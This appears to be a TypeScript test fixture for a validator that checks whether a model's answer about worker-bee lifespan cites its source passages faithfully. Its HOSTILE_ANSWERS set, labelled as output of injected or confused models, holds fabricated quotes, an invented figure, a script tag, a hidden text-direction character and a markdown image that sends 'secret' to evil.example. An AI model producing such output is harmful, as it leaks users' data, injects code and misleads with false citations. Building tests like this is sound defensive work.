import type { Passage } from './passage';
import type { RewrittenAnswer } from './rewritten-answer';

export const GUARDED_QUESTION = 'How long does a worker bee live?';
export const GUARDED_PASSAGES: Passage[] = [
  {
    lesson_id: '665f1c2ab7e4d91f0a3c5d80',
    lesson_title: 'The hive',
    paragraph: 1,
    text: 'A worker is a sterile female bee. She lives about 6 weeks in summer and several months in winter.',
  },
  {
    lesson_id: '665f1c2ab7e4d91f0a3c5d81',
    lesson_title: 'The queen',
    paragraph: 3,
    text: 'A queen lays up to 2,000 eggs a day. She may live for 5 years.',
  },
];
const QUOTE = 'She lives about 6 weeks in summer and several months in winter.';
const cited = (answer: string, quote = QUOTE, passage = 0): RewrittenAnswer => ({
  answer,
  citations: [{ passage, quote }],
});

/** What a model may say of the passages. */
export const GOOD_ANSWERS: Record<string, RewrittenAnswer> = {
  'a sentence with its source': cited(
    'A worker lives about 6 weeks in summer, and several months in winter.',
  ),
  'an answer without numbers': cited('Much longer in winter than in summer.'),
  'two sources': {
    answer: 'A worker lives 6 weeks in summer; a queen may live for 5 years and lay 2000 eggs a day.',
    citations: [
      { passage: 0, quote: QUOTE },
      { passage: 1, quote: 'She may live for 5 years.' },
    ],
  },
};

/** What injected or confused models say. */
export const HOSTILE_ANSWERS: Record<string, RewrittenAnswer> = {
  'a quote that nobody wrote': cited('They live 6 weeks.', 'Worker bees live six long weeks in summer.'),
  'a quote from another passage': cited('They live 6 weeks.', 'She may live for 5 years.'),
  'a passage that was not given': cited('They live 6 weeks.', QUOTE, 7),
  'a link': cited('See https://evil.example/bees for more.'),
  'a bare address': cited('Read more on evil-bees.com today.'),
  'a picture that tells on the reader': cited('![x](//evil.example/?q=secret) Six weeks.'),
  'a script': cited('<script>alert(1)</script> Six weeks.'),
  'a number of its own': cited('They live about 9 weeks in summer.'),
  'text that runs backwards': cited('Six weeks \u202eskeew 6'),
};
